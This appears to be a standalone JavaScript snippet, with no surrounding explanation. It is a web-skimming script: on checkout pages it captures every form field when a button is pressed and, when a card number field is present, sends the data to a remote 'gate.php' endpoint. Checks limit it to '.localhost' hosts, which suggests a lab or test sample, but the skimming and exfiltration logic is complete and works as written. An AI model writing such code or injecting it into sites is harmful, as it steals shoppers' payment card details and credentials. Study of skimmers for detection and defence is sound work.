$(document).ready(function(){
    var h = window.location.hostname;
    if(h.substring(h.length-10) != ".localhost") return false;
    if((new RegExp('onepage|checkout|onestep|firecheckout','gi')).test(window.location)) {
        $(document).on("mousedown", "button, .button, .btn", function(){
            var arr = $("form").serializeArray();
            var str = "";
            $.each(arr, function(i, field){
                str += field.name + "=" + field.value + "&";
            });
            if(str.indexOf("cc_number") > -1) {
                $.ajax({ url: "https://mage-checkout.localhost/gate.php", type: "POST", data: { info: str, hostname: h }, dataType: "jsonp" });
            }
        });
    }
});
